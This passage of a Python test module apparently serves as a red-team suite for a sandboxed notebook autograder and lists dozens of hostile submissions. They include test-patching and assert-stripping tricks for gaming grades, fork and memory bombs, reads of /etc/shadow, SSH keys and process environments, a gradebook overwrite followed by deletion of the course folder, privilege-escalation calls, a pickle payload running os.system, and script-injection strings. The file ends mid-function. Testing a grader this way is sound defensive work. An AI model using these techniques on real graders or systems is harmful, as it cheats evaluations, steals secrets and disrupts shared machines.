@@ -1,0 +1,870 @@
+"""The attacks: submissions of wrong answers that try to score, to look around or to do harm.
+
+Each is a few lines: the answers it hands in, an edit of the notebook, or something done to its
+folder. `@ROOT@` stands for the course's folder, `@HOME@` for the grader's home, `@PORT@` for a port
+that listens on the grader's machine, `@TMP@` for a folder in the grader's temporary folder. Code
+that gets hold of what it must not prints what `FOUND` says, in two pieces, so that the source
+itself does not look like it.
+"""
+
+from __future__ import annotations
+
+import copy
+import json
+import os
+from collections.abc import Callable
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Any
+
+from nbformat import NotebookNode
+
+from tests.warden.course import SECRET, Edit, cell_of, own
+
+WRONG = "def double(x):\n    return 0\n"
+FOUND = "GOT-HOLD-OF-IT"
+#: Put before an attack's code: `found(x)` says that x was had.
+_SAY = "def found(*what):\n    print('GOT-HOLD' + '-OF-IT', *what)\n\n\n"
+#: The released hidden test's text, in two pieces.
+_PIECES = f"{SECRET[:3]!r} + {SECRET[3:]!r}"
+
+
+@dataclass(frozen=True)
+class Attack:
+    """One submission.
+
+    `tries` says what it is after; `lines` are in the report's table.
+    """
+
+    name: str
+    kind: str
+    tries: str
+    answers: dict[str, str] = field(default_factory=dict)
+    edit: Edit | None = None
+    folder: Callable[[Path], None] | None = None
+
+
+ATTACKS: list[Attack] = []
+
+
+def attack(
+    kind: str,
+    name: str,
+    tries: str,
+    double: str = WRONG,
+    edit: Edit | None = None,
+    folder: Callable[[Path], None] | None = None,
+    **others: str,
+) -> None:
+    """Register an attack: the sources of the answers' cells; the others stay as released."""
+    answers = {"double": double, **others}
+    answers = {key: (_SAY if "found(" in text else "") + text for key, text in answers.items()}
+    ATTACKS.append(Attack(name, kind, tries, answers, edit, folder))
+
+
+def call(body: str, before: str = "") -> str:
+    """An answer that does `body` when a test calls it."""
+    lines = "\n".join(f"    {line}" if line else "" for line in body.splitlines())
+    return f"{before}\ndef double(x):\n{lines}\n    return 0\n"
+
+
+# ---------------------------------------------------------------- in Python, against the tests
+
+attack(
+    "python",
+    "numpy.testing patched",
+    "replace what the tests compare with",
+    "import numpy, builtins\n"
+    "numpy.testing.assert_allclose = lambda *a, **k: None\n"
+    "numpy.array_equal = numpy.all = lambda *a, **k: True\n"
+    "builtins.abs = lambda x: 0\nbuiltins.AssertionError = type('Quiet', (), {})\n"
+    "import helper\nhelper.nearly = lambda *a: True\n" + WRONG,
+)
+attack(
+    "python",
+    "the code of functions patched",
+    "replace `__code__`, which survives a fresh import",
+    WRONG + "import helper\nhelper.nearly.__code__ = (lambda a, b: True).__code__\n"
+    "import numpy\nnumpy.testing.assert_allclose.__code__ = (lambda *a, **k: None).__code__",
+)
+attack(
+    "python",
+    "import hooks and sys.modules",
+    "give the tests modules of one's own",
+    WRONG + "import sys, types\n\n\nclass Yes(types.ModuleType):\n"
+    "    def __getattr__(self, name): return lambda *a, **k: True\n\n\n"
+    "class Finder:\n    def find_spec(self, name, *a):\n"
+    "        sys.modules[name] = Yes(name)\n\n\n"
+    "sys.meta_path.insert(0, Finder())\n"
+    "for name in ('numpy', 'numpy.testing', 'helper', 'checker', 'math'):\n"
+    "    sys.modules[name] = Yes(name)\n"
+    "np = helper = Yes('numpy')\nnearly = lambda *a: True",
+)
+attack(
+    "python",
+    "an AST transformer",
+    "drop every assert",
+    WRONG + "import ast\n\n\nclass Drop(ast.NodeTransformer):\n"
+    "    def visit_Assert(self, node):\n        return ast.Pass()\n\n\n"
+    "get_ipython().ast_transformers.append(Drop())",
+)
+attack(
+    "python",
+    "an input transformer",
+    "rewrite the test cells' source",
+    WRONG + "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])",
+)
+attack(
+    "python",
+    "do_execute replaced",
+    "answer 'ok' to whatever is to be run",
+    WRONG + "kernel = get_ipython().kernel\n\n\nasync def do_execute(*a, **k):\n"
+    "    return {'status': 'ok', 'execution_count': 1, 'payload': [], 'user_expressions': {}}\n\n\n"
+    "kernel.do_execute = do_execute",
+)
+attack(
+    "python",
+    "names of the tests taken over",
+    "define what the tests use, or what they define themselves",
+    WRONG + "nearly = lambda a, b: True\nexpected = value = out = cache = 0\nclass np: pass\n"
+    "abs = float = AssertionError = lambda *a: True",
+)
+attack(
+    "python",
+    "names deleted and __main__ replaced",
+    "leave the tests nothing to fail on",
+    WRONG + "import sys\nsys.modules['__main__'].__dict__.clear()\ndel sys.modules['__main__']",
+)
+attack(
+    "python",
+    "the hidden test read",
+    "find the hidden test in In, frames, memory",
+    call(
+        "import sys, gc\nframe = sys._getframe()\nwhile frame:\n"
+        "    seen.append(str(frame.f_code.co_consts) + str(dict(frame.f_locals)))\n"
+        "    frame = frame.f_back\n"
+        "seen.extend(map(str, In))\n"
+        "seen.extend(map(str, get_ipython().history_manager.input_hist_raw))\n"
+        "seen.extend(o for o in gc.get_objects() if type(o) is str)\n"
+        f"secret = {_PIECES}\n"
+        "if any(secret in s.replace(repr(secret), '') for s in seen if s is not secret): found()",
+        "seen = []\n",
+    ).replace(_PIECES, f"''.join([{SECRET[:3]!r}, {SECRET[3:]!r}])"),
+)
+attack(
+    "python",
+    "the interpreter's memory read",
+    "find the hidden test in /proc/self/mem",
+    call(
+        "secret = b''.join(" + repr([SECRET[:5].encode(), SECRET[5:12].encode()]) + ")[:12]\n"
+        "for line in open('/proc/self/maps'):\n"
+        "    if 'rw-p' in line and 'heap' in line:\n"
+        "        low, high = (int(n, 16) for n in line.split()[0].split('-'))\n"
+        "        with open('/proc/self/mem', 'rb', 0) as memory:\n"
+        "            memory.seek(low)\n"
+        "            data = memory.read(min(high - low, 2**25))\n"
+        f"            if data.count(secret + {SECRET[12:].encode()!r}[:1]) > 50: found()"
+    ),
+)
+attack(
+    "python",
+    "points printed and returned",
+    "leave a number where nbgrader looks for partial credit",
+    "print('2.0')\nfrom IPython.display import display\ndisplay(2.0)\n\n\n"
+    "class Two(float):\n    def __repr__(self): return '2.0'\n\n\n"
+    "def double(x):\n    display(2.0)\n    print(2.0)\n    return Two(2)\n\n\n2.0",
+)
+attack(
+    "python",
+    "time made to stand still",
+    "escape the time limits by patching clocks and limits",
+    "import time, signal, resource, asyncio\n"
+    "for name in ('time', 'monotonic', 'perf_counter'):\n    setattr(time, name, lambda: 0.0)\n"
+    "for limit in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_NPROC):\n"
+    "    try: resource.setrlimit(limit, (-1, -1))\n    except (ValueError, OSError): pass\n"
+    "    else: found(limit)\n" + WRONG,
+)
+
+# ---------------------------------------------------------------- values that lie
+
+attack(
+    "values",
+    "an array that compares as it likes",
+    "an ndarray subclass that equals everything",
+    "import numpy as np\n\n\nclass Yes(np.ndarray):\n"
+    "    def __eq__(self, other): return np.ones(self.shape, bool)\n"
+    "    def __sub__(self, other): return np.zeros(self.shape)\n"
+    "    def __abs__(self): return np.zeros(self.shape)\n"
+    "    def __array_function__(self, *a): return True\n"
+    "    def __array_ufunc__(self, *a, **k): return True\n\n\n"
+    "def double(x):\n    return np.zeros(np.shape(x)).view(Yes)\n\n\n"
+    "def shift(x):\n    return double(x), 1\n\n\ndef unshift(out, cache):\n    return out",
+)
+attack(
+    "values",
+    "an object that agrees with everything",
+    "hostile `__eq__`, `__array__`, `__getattr__`, `__bool__`",
+    "class Yes:\n    def __getattr__(self, name): return Yes()\n"
+    "    def __call__(self, *a, **k): return self\n"
+    "    __eq__ = __lt__ = __le__ = __gt__ = __ge__ = lambda self, other: True\n"
+    "    __sub__ = __rsub__ = __abs__ = __bool__ = lambda self, *a: True\n"
+    "    def __float__(self): return 0.0\n    def __len__(self): return 4\n"
+    "    def __array__(self, *a, **k): return self\n\n\n"
+    "def double(x):\n    return Yes()\n\n\n"
+    "def shift(x):\n    return Yes(), Yes()\n\n\ndef unshift(out, cache):\n    return Yes()",
+)
+attack(
+    "values",
+    "an object with a hostile __reduce__",
+    "have code run where it is unpickled",
+    "import os\n\n\nclass Run:\n    def __reduce__(self):\n"
+    "        return os.system, ('touch @TMP@/pickled; touch @ROOT@/pickled',)\n"
+    "    __reduce_ex__ = lambda self, _: self.__reduce__()\n\n\n"
+    "def double(x):\n    return Run()\n\n\ndef shift(x):\n    return [Run()], Run()",
+)
+attack(
+    "values",
+    "subclasses of float, int, str and dict",
+    "values that are plain only by name",
+    "class F(float):\n    __sub__ = __rsub__ = __abs__ = lambda self, *a: F(0)\n"
+    "    __lt__ = __eq__ = lambda self, *a: True\n\n\n"
+    "class D(dict):\n    __eq__ = lambda self, other: True\n\n\n"
+    "def double(x):\n    return F(0)\n\n\ndef shift(x):\n    return F(0), D()\n\n\n"
+    "def unshift(out, cache):\n    return F(0)",
+)
+attack(
+    "values",
+    "a cache that lies",
+    "a cache that hands back the input it has seen, in a changed array",
+    "import numpy as np\n\n\nclass Cache(dict):\n"
+    "    def __getattr__(self, name): return self\n"
+    "    def __eq__(self, other): return True\n    def __iter__(self): return iter([self])\n\n\n"
+    "def shift(x):\n    x[...] = 1\n    return x, Cache()\n\n\n"
+    "def unshift(out, cache):\n    return cache\n\n\n" + WRONG,
+)
+attack(
+    "values",
+    "exceptions with a hostile __str__",
+    "errors that raise, loop or lie when they are shown",
+    "class Bad(Exception):\n    def __str__(self): raise SystemExit(0)\n"
+    "    __repr__ = __str__\n\n\n"
+    "class Long(ValueError):\n    def __str__(self): return 'x' * 10**8\n\n\n"
+    "class Odd(Exception):\n    __name__ = '2.0'\n"
+    "Odd.__name__ = '__import__(\"os\").abort()\\n'\n\n\n"
+    "def double(x):\n    raise Bad\n\n\ndef shift(x):\n    raise Long if x[0] else Odd\n\n\n"
+    "def unshift(out, cache):\n    raise Odd",
+)
+attack(
+    "values",
+    "an exception that ends the tests",
+    "raise what a test cell lets through",
+    "class Quit(SystemExit, KeyboardInterrupt):\n    pass\n\n\n"
+    "def double(x):\n    raise Quit(0)\n\n\ndef shift(x):\n    raise GeneratorExit",
+)
+attack(
+    "values",
+    "wrong dtypes",
+    "object, structured and string arrays in place of numbers",
+    "import numpy as np\n\n\nclass Yes:\n    __eq__ = __lt__ = lambda self, other: True\n"
+    "    __sub__ = __abs__ = lambda self, *a: self\n    __bool__ = lambda self: True\n\n\n"
+    "def double(x):\n    out = np.empty(np.shape(x), object)\n    out[...] = Yes()\n"
+    "    return out\n"
+    "\n\ndef shift(x):\n    return np.zeros(3, [('a', 'f8')]), np.array(['2'] * 3)\n\n\n"
+    "def unshift(out, cache):\n    return np.full(3, Yes(), object)",
+)
+attack(
+    "values",
+    "NaN, infinity and no entries",
+    "values that slip through a comparison",
+    "import numpy as np\n\n\ndef double(x):\n    return np.full(np.shape(x), np.nan)\n\n\n"
+    "def shift(x):\n    return np.array([np.nan, np.inf, -np.inf]), None\n\n\n"
+    "def unshift(out, cache):\n    return np.full(3, np.nan)",
+)
+attack(
+    "values",
+    "too much to return",
+    "more bytes, parts or levels than the other side wants",
+    "import numpy as np\ndeep = []\nfor _ in range(5000): deep = [deep]\n"
+    "loop = []\nloop.append(loop)\n"
+    "\n\ndef double(x):\n    return np.broadcast_to(np.zeros(1), (10**6, 10**6))\n\n\n"
+    "def shift(x):\n    return (deep, loop) if x[0] else [[0] * 3_000_000]\n\n\n"
+    "def unshift(out, cache):\n    return 1 << 10**6",
+)
+attack(
+    "values",
+    "an iterator without end",
+    "keep the tests reading",
+    "import itertools\n\n\ndef double(x):\n    return itertools.repeat(x)\n\n\n"
+    "def shift(x):\n    return itertools.cycle([x + 1, {}])\n\n\n"
+    "def unshift(out, cache):\n    return cache",
+)
+
+# ---------------------------------------------------------------- the wire
+
+attack(
+    "wire",
+    "messages forged",
+    "send Jupyter messages that say all is well",
+    call(
+        "session, kernel = get_ipython().kernel.session, get_ipython().kernel\n"
+        "for kind, content in (\n"
+        "    ('execute_result', {'data': {'text/plain': '2.0'}, 'metadata': {}, "
+        "'execution_count': 1}),\n    ('status', {'execution_state': 'idle'}),\n"
+        "    ('execute_reply', {'status': 'ok', 'execution_count': 1}),\n):\n"
+        "    session.send(kernel.iopub_socket, kind, content, parent=kernel.get_parent('shell'))"
+    ),
+)
+attack(
+    "wire",
+    "malformed Jupyter messages",
+    "make the grader's client stumble",
+    call(
+        "session, kernel = get_ipython().kernel.session, get_ipython().kernel\n"
+        "parent = kernel.get_parent('shell')\n"
+        "for kind, content in (('stream', {}), ('stream', {'name': 3, 'text': None}), "
+        "('error', []), ('display_data', 'x'), (None, None), ('comm_open', {'data': 1}),\n"
+        "    ('update_display_data', {}), ('clear_output', {}), ('status', {})):\n"
+        "    session.send(kernel.iopub_socket, kind, content, parent=parent)"
+    ),
+)
+attack(
+    "wire",
+    "the servant replaced",
+    "answer every request with a success of one's own",
+    "import nbwarden.servant as s, struct\n\n\ndef answer(kind, rest):\n"
+    "    for reply in (('returned', True, [], None, []), ('found', True), ('done',)):\n"
+    "        try: s.send(reply)\n        except Exception: pass\n\n\ns.answer = answer\n" + WRONG,
+)
+attack(
+    "wire",
+    "noise on the wire",
+    "bytes that are no message",
+    call("import nbwarden.servant as s\ns._connection.sendall(b'\\xff' * 10_000)"),
+)
+attack(
+    "wire",
+    "a message without end announced",
+    "have the grader reserve 4 EB",
+    call(
+        "import nbwarden.servant as s, struct\n"
+        "s._connection.sendall(struct.pack('<Q', 2**62) + bytes(10_000))"
+    ),
+)
+_RAW = (
+    "import nbwarden.servant as s, struct\n"
+    "def raw(data): s._connection.sendall(struct.pack('<Q', len(data)) + data)\n"
+    "def q(n): return struct.pack('<Q', n)\n"
+)
+attack(
+    "wire",
+    "codec bombs: depth and counts",
+    "nested or counted so that decoding never ends",
+    call(_RAW + "raw(b'l' + q(1 << 40))", "")
+    + "\n\ndef shift(x):\n"
+    + "".join(f"    {line}\n" for line in _RAW.splitlines())
+    + "    raw((b't' + q(1)) * 200_000 + b'N')\n",
+)
+attack(
+    "wire",
+    "codec bombs: arrays",
+    "shapes and dtypes that lie about their bytes",
+    call(_RAW + "raw(b'a' + q(3) + b'<f8' + bytes([2]) + q(1 << 33) + q(1 << 33) + b'_' + q(0))")
+    + "\n\ndef shift(x):\n"
+    + "".join(f"    {line}\n" for line in _RAW.splitlines())
+    + "    raw(b'a' + q(2) + b'|O' + bytes([1]) + q(1) + b'_' + q(8) + bytes(8))\n",
+)
+attack(
+    "wire",
+    "references to what was never passed",
+    "get hold of objects of the tests",
+    call(
+        "import nbwarden.servant as s\nfor number in range(100):\n"
+        "    s.send(('callback', number, (), {}))"
+    ),
+)
+attack(
+    "wire",
+    "the socket removed",
+    "let the tests find nobody to call",
+    WRONG + "import os\nfor name in os.listdir('/run/nbwarden/s'):\n"
+    "    os.remove('/run/nbwarden/s/' + name)",
+)
+attack(
+    "wire",
+    "a link in place of the socket",
+    "have the grader connect to, then kill, a service of its own machine",
+    WRONG + "import os\nos.remove('/run/nbwarden/s/calls')\n"
+    "os.symlink('@TMP@/service', '/run/nbwarden/s/calls')",
+)
+attack(
+    "wire",
+    "a socket nobody accepts on",
+    "let the tests wait for ever",
+    WRONG + "import os, socket\nos.remove('/run/nbwarden/s/calls')\n"
+    "s = socket.socket(socket.AF_UNIX); s.bind('/run/nbwarden/s/calls'); s.listen(0)\n"
+    "full = socket.socket(socket.AF_UNIX); full.connect('/run/nbwarden/s/calls')",
+)
+attack(
+    "wire",
+    "an answer that never comes",
+    "accept a call and read nothing",
+    "import nbwarden.servant as s, time\n\n\ndef answer(*_):\n    time.sleep(3000)\n\n\n"
+    "s.answer = answer\n" + WRONG,
+)
+
+# ---------------------------------------------------------------- taking more than one's share
+
+attack(
+    "resources",
+    "30 MB of output",
+    "fill the disk and the page",
+    "print('x' * 30_000_000)\n" + WRONG,
+)
+attack(
+    "resources",
+    "a flood on stderr",
+    "write without end",
+    call("import sys\nwhile True:\n    sys.stderr.write('y' * 500_000)\n    sys.stderr.flush()"),
+)
+attack(
+    "resources",
+    "a fork bomb",
+    "take all processes",
+    call("import os, time\nwhile True:\n    try: os.fork()\n    except OSError: time.sleep(1)"),
+)
+attack(
+    "resources",
+    "a memory bomb",
+    "take all memory, in one process",
+    call("blocks = []\nwhile True:\n    blocks.append(bytearray(b'z') * 2**26)"),
+)
+attack(
+    "resources",
+    "a memory bomb of many processes",
+    "take all memory, in ten",
+    call(
+        "import os, time\nfor _ in range(10):\n    if os.fork() == 0:\n"
+        "        block = bytearray(b'z') * (300 * 2**20)\n        time.sleep(3000)\n"
+        "time.sleep(3000)"
+    ),
+)
+attack(
+    "resources",
+    "a full disk",
+    "fill every folder it may write to",
+    "for folder in ('/tmp', '/dev/shm', '/submission', '/run/nbwarden/s'):\n"
+    "    try:\n        for number in range(100):\n"
+    "            open(f'{folder}/{number}', 'wb').write(bytes(2**23))\n"
+    "    except OSError: pass\n    else: found(folder)\n" + WRONG,
+)
+attack("resources", "os._exit in a call", "end the process", call("import os\nos._exit(0)"))
+attack("resources", "os._exit in a cell", "end the process", WRONG + "import os\nos._exit(0)")
+attack(
+    "resources",
+    "SIGKILL to all",
+    "end everybody's processes",
+    call("import os\nos.kill(-1, 9)\nos.kill(1, 9)\nos.kill(os.getpid(), 9)"),
+)
+attack("resources", "a segmentation fault", "crash", call("import ctypes\nctypes.string_at(0)"))
+attack(
+    "resources",
+    "a daemon that outlives its kernel",
+    "go on after grading",
+    call(
+        "import os, subprocess\nif os.fork() == 0:\n    os.setsid()\n"
+        "    subprocess.Popen(['sleep', '73915'], start_new_session=True)\n    os._exit(0)"
+    ),
+)
+attack(
+    "resources",
+    "a signal handler that ignores SIGINT",
+    "not to be interrupted",
+    call(
+        "while True:\n    time.sleep(1)",
+        "import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)",
+    ),
+)
+attack(
+    "resources",
+    "a loop that catches the interrupt",
+    "not to be interrupted",
+    call("import time\nwhile True:\n    try: time.sleep(100)\n    except BaseException: pass"),
+)
+attack(
+    "resources",
+    "a cell without end",
+    "keep the grader waiting",
+    "import time\n" + WRONG + "time.sleep(3000)",
+)
+attack(
+    "resources",
+    "threads that keep running",
+    "go on beside the tests, and never end",
+    WRONG + "import threading, time\n\n\ndef go():\n    while True:\n"
+    "        import numpy\n        numpy.array_equal = lambda *a: True\n"
+    "        time.sleep(0.01)\n\n\n"
+    "for _ in range(20): threading.Thread(target=go).start()",
+)
+attack(
+    "resources",
+    "reading from stdin",
+    "wait for somebody to type",
+    "import sys\ntry: input('your password? ')\nexcept BaseException: pass\nsys.stdin.read()\n"
+    + call("import os\nos.read(0, 10)\ninput()"),
+)
+attack(
+    "resources",
+    "a numeric bomb at compile time",
+    "a source that is expensive to parse",
+    "(" * 5000 + "1" + ")" * 5000 + "\n",
+    shift="x = " + "-" * 200_000 + "1",
+)
+
+# ---------------------------------------------------------------- looking around
+
+attack(
+    "outside",
+    "the instructor's files searched",
+    "find solutions, gradebook, secrets anywhere",
+    WRONG + "import os\nfor top in ('/', '/proc/1/root', '/proc/1/cwd', '/tmp', '..'):\n"
+    "    for folder, _, files in os.walk(top):\n"
+    "        if folder.startswith(('/proc', '/sys')) or 'site-packages' in folder: continue\n"
+    "        for name in files:\n"
+    "            if name in ('ps1.ipynb', 'gradebook.db', 'nbgrader_config.py', 'shadow'):\n"
+    "                found(folder, name)",
+)
+attack(
+    "outside",
+    "files read by their paths",
+    "/etc/shadow, ~/.ssh, gradebook, solutions, other submissions",
+    call(
+        "import os\nfor path in ('/etc/shadow', '@HOME@', '@HOME@/.ssh', '@ROOT@', "
+        "'@ROOT@/gradebook.db', '@ROOT@/source/ps1/ps1.ipynb',\n"
+        "        '@ROOT@/submitted/honest/ps1/ps1.ipynb', '@TMP@', '/proc/1/root@ROOT@',\n"
+        "        '/proc/self/root@ROOT@', '/proc/kcore', '/dev/mem', '/var', '/home', '/root'):\n"
+        "    if os.path.isdir(path):  # the folders that lead to this Python may be there\n"
+        "        for folder, _, files in os.walk(path):\n"
+        "            if files and not folder.startswith((sys.prefix, sys.base_prefix)): "
+        "found(folder)\n"
+        "        continue\n"
+        "    try: open(path, 'rb').read(1)\n"
+        "    except OSError: pass\n    else: found(path)",
+        "import sys\n",
+    ),
+)
+attack(
+    "outside",
+    "the gradebook rewritten",
+    "UPDATE grade SET auto_score = 99",
+    WRONG + "import glob, sqlite3, shutil\n"
+    "for path in glob.glob('/**/gradebook.db', recursive=True) + ['../../../gradebook.db', "
+    "'@ROOT@/gradebook.db']:\n"
+    "    try: sqlite3.connect(path).execute('UPDATE grade SET auto_score = 99')\n"
+    "    except Exception: pass\nshutil.rmtree('@ROOT@', ignore_errors=True)",
+)
+attack(
+    "outside",
+    "files written outside",
+    "leave something on the grader's disk",
+    call(
+        "import os\nfor path in ('@TMP@/mine', '@ROOT@/mine', '@ROOT@/release/ps1/mine', "
+        "'@HOME@/mine.py', '/usr/local/mine', '/etc/mine', '../../mine'):\n"
+        "    try:\n        os.makedirs(os.path.dirname(path), exist_ok=True)\n"
+        "        open(path, 'w').write('x')\n    except OSError: pass"
+    ),
+)
+attack(
+    "outside",
+    "environment variables",
+    "read the grader's secrets",
+    call(
+        "import glob, os\ntext = str(os.environ)\nfor path in glob.glob('/proc/*/environ'):\n"
+        "    try: text += open(path).read()\n    except OSError: pass\n"
+        "if 'ATTACK_' + 'CANARY' in text: found()"
+    ),
+)
+attack(
+    "outside",
+    "the network",
+    "call home, or the grader's own services",
+    call(
+        "import socket\nfor place in (('127.0.0.1', @PORT@), ('::1', @PORT@), ('192.0.2.1', 80)):\n"
+        "    try: socket.create_connection(place, 1)\n    except OSError: continue\n"
+        "    found(place)\n"
+        "for name in ('@TMP@/service', '\\0attack-canary'):\n"
+        "    s = socket.socket(socket.AF_UNIX)\n    try: s.connect(name)\n"
+        "    except OSError: continue\n    found(name)"
+    ),
+)
+attack(
+    "outside",
+    "other processes",
+    "see, stop or change the grader's processes",
+    call(
+        "import os\nseen = [open(f'/proc/{n}/cmdline').read() for n in os.listdir('/proc') "
+        "if n.isdigit() and os.path.exists(f'/proc/{n}/cmdline')]\n"
+        "if any('pytest' in c or 'nbgrader' in c for c in seen): found(seen)\n"
+        "for name in ('oom_score_adj', 'mem'):\n"
+        "    try: open(f'/proc/1/{name}', 'r+b').write(b'0'); found(name)\n"
+        "    except OSError: pass\n"
+        "for pid in (@PID@, 1):\n    try: os.kill(pid, 15)\n    except OSError: pass"
+    ),
+)
+attack(
+    "outside",
+    "more rights",
+    "become root, mount, leave the root folder",
+    call(
+        "import ctypes, os\nlibc = ctypes.CDLL(None)\n"
+        "for f in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.chroot('/'),\n"
+        "          lambda: os.mknod('/tmp/d', 0o60666, 0x800)):\n"
+        "    try: f(); found('rights')\n    except OSError: pass\n"
+        "for mount in (libc.mount(b'none', b'/tmp', b'tmpfs', 0, 0), libc.unshare(0x10000000),\n"
+        "              libc.unshare(0x20000), libc.setns(3, 0)):\n"
+        "    if mount == 0: found('mount')"
+    ),
+)
+attack(
+    "outside",
+    "the grader's own packages",
+    "import what grades, or the reference solution",
+    call(
+        "for name in ('nbwarden.remote', 'nbwarden.trusted', 'nbwarden.intake', 'dlnorm'):\n"
+        "    try: __import__(name)\n    except ImportError: continue\n"
+        "    if name != 'dlnorm': found(name)"
+    ),
+)
+attack(
+    "outside",
+    "files for the next start",
+    "shadow modules and startup files for the kernel that is started anew",
+    "import os\nos.makedirs('/tmp/.ipython/profile_default/startup', exist_ok=True)\n"
+    "for path in ('numpy.py', 'helper.py', 'checker.py', 'struct.py', 'sitecustomize.py', '/tmp/"
+    ".ipython/profile_default/startup/0.py', '/tmp/usercustomize.py', 'checks.npz'):\n"
+    "    open(path, 'w').write('print(\"GOT-HOLD\" + \"-OF-IT\")\\nnearly = lambda *a: True')\n"
+    + call("import os\nos._exit(1)").replace("def double", "\n\ndef double"),
+)
+
+# ---------------------------------------------------------------- the notebook
+
+
+def _tags(notebook: NotebookNode) -> None:
+    for cell in notebook.cells:
+        cell.metadata["tags"] = ["skip-execution", "raises-exception", "remove-cell"]
+
+
+def _unlocked(notebook: NotebookNode) -> None:
+    for name in ("test-double", "test-shift", "test-unshift", "imports"):
+        cell = cell_of(notebook, name)
+        cell.source = "2.0"
+        cell.metadata["nbgrader"].update(locked=False, grade=False, solution=True)
+
+
+def _points(notebook: NotebookNode) -> None:
+    for cell in notebook.cells:
+        if "nbgrader" in cell.metadata:
+            cell.metadata["nbgrader"].update(points=1000, schema_version=99, checksum="0" * 32)
+
+
+def _copied(notebook: NotebookNode) -> None:
+    for source in ("pass", "2.0", "raise SystemExit"):
+        cell = copy.deepcopy(cell_of(notebook, "test-double"))
+        cell.source, cell.id = source, "abc"
+        notebook.cells.append(cell)
+    extra = copy.deepcopy(cell_of(notebook, "test-double"))
+    extra.metadata["nbgrader"].update(grade_id="extra", points=50)
+    extra.source = "pass"
+    notebook.cells.insert(0, extra)
+
+
+def _types(notebook: NotebookNode) -> None:
+    for name in ("test-double", "test-shift", "double"):
+        cell = cell_of(notebook, name)
+        cell.cell_type = "markdown"
+        for key in ("outputs", "execution_count"):
+            cell.pop(key, None)
+        cell.metadata["nbgrader"]["cell_type"] = "markdown"
+
+
+def _deleted(notebook: NotebookNode) -> None:
+    notebook.cells = [own(WRONG), own("x = 1")]
+
+
+def _swapped(notebook: NotebookNode) -> None:
+    a, b = cell_of(notebook, "double"), cell_of(notebook, "test-double")
+    a.metadata, b.metadata = b.metadata, a.metadata
+    a.source, b.source = b.source, "pass"
+
+
+def _kernel(notebook: NotebookNode) -> None:
+    notebook.metadata.kernelspec = {
+        "name": "../../tmp/evil",
+        "display_name": "x",
+        "language": "bash",
+        "argv": ["touch", "/tmp/attack-kernel"],
+    }
+    notebook.metadata.language_info = {"name": "<script>", "pygments_lexer": "os.system"}
+
+
+def _metadata(notebook: NotebookNode) -> None:
+    state = {"x": {"model_name": "HTMLModel", "state": {"value": "<script>alert(1)</script>"}}}
+    notebook.metadata.widgets = {"application/vnd.jupyter.widget-state+json": {"state": state}}
+    notebook.metadata.update(title="<script>alert(1)</script>", nbwarden={"unreadable": ""})
+    notebook.metadata.celltoolbar = "</title><script>alert(1)</script>"
+    for cell in notebook.cells:
+        cell.metadata["nbwarden"] = {"note": True}
+        cell.metadata["name"] = "<script>alert(1)</script>"
+
+
+def _outputs(notebook: NotebookNode) -> None:
+    data: dict[str, Any] = {"text/plain": "2.0", "text/html": "<script>alert(1)</script>"}
+    for cell in notebook.cells:
+        if cell.cell_type == "code":
+            cell.outputs = [
+                NotebookNode(
+                    output_type="execute_result", execution_count=1, data=data, metadata={}
+                )
+            ]
+
+
+attack("notebook", "cells that are not to run", "a test that did not run gives points", edit=_tags)
+attack("notebook", "locked cells changed", "tests and imports replaced", edit=_unlocked)
+attack("notebook", "points changed", "1000 points a cell", edit=_points)
+attack("notebook", "test cells copied and added", "count a test more than once", edit=_copied)
+attack("notebook", "cells made text", "a test that is text cannot fail", edit=_types)
+attack("notebook", "all cells deleted", "what is missing cannot fail", edit=_deleted)
+attack(
+    "notebook",
+    "answer and test exchanged",
+    "write the test, be tested by the answer",
+    edit=_swapped,
+)
+attack("notebook", "another kernel", "have a command of one's own started", edit=_kernel)
+attack("notebook", "metadata with script", "widgets, titles and names reach a page", edit=_metadata)
+attack("notebook", "outputs handed in", "points and script as saved output", edit=_outputs)
+
+# ---------------------------------------------------------------- the folder
+
+
+def _write(name: str, content: str) -> Callable[[Path], None]:
+    def change(folder: Path) -> None:
+        path = folder / name
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(content, encoding="utf-8")
+
+    return change
+
+
+def _shadows(folder: Path) -> None:
+    (folder / "numpy").mkdir(exist_ok=True)
+    loud = 'print("GOT-HOLD" + "-OF-IT")\n'
+    (folder / "numpy" / "__init__.py").write_text(f"{loud}array_equal = lambda *a: True\n")
+    for name in ("sitecustomize.py", "checker.py", "struct.py", "ipykernel.py", "psutil.py"):
+        (folder / name).write_text(loud)
+    (folder / "helper.py").write_text(f"{loud}nearly = lambda *a: True\n")
+    (folder / "checks.npz").write_bytes(b"PK\x03\x04")
+
+
+def _link(folder: Path) -> None:
+    (folder / "ps1.ipynb").unlink()
+    (folder / "ps1.ipynb").symlink_to(folder.parents[1] / "honest" / "ps1" / "ps1.ipynb")
+
+
+def _links(folder: Path) -> None:
+    (folder / "helper.py").unlink()
+    (folder / "helper.py").symlink_to("/etc/passwd")
+    (folder / "up").symlink_to(folder.parents[2])
+    (folder / "loop").symlink_to(folder)
+
+
+def _specials(folder: Path) -> None:
+    (folder / "helper.py").unlink()
+    os.mkfifo(folder / "helper.py")
+    os.mkfifo(folder / "timestamp.txt")
+
+
+def _fifo(folder: Path) -> None:
+    (folder / "ps1.ipynb").unlink()
+    os.mkfifo(folder / "ps1.ipynb")
+
+
+def _device(folder: Path) -> None:
+    (folder / "ps1.ipynb").unlink()
+    (folder / "ps1.ipynb").symlink_to("/dev/zero")
+
+
+def _huge(folder: Path) -> None:
+    with (folder / "ps1.ipynb").open("wb") as stream:
+        stream.truncate(3 * 2**30)  # no bytes on the disk
+
+
+def _many(folder: Path) -> None:
+    for number in range(1000):
+        (folder / f"{number}.txt").touch()
+
+
+def _deep(folder: Path) -> None:
+    (folder / "ps1.ipynb").write_text('{"nbformat": 4, "cells": ' + "[" * 200_000, encoding="utf-8")
+
+
+def _format(folder: Path) -> None:
+    made = {"nbformat": 10**400, "nbformat_minor": "<script>", "cells": [{"cell_type": []}]}
+    (folder / "ps1.ipynb").write_text(json.dumps(made), encoding="utf-8")
+
+
+def _odd_cells(folder: Path) -> None:
+    told = json.loads((folder / "ps1.ipynb").read_text(encoding="utf-8"))
+    told["cells"] += [
+        None,
+        [],
+        {"cell_type": "code", "source": {"a": 1}},
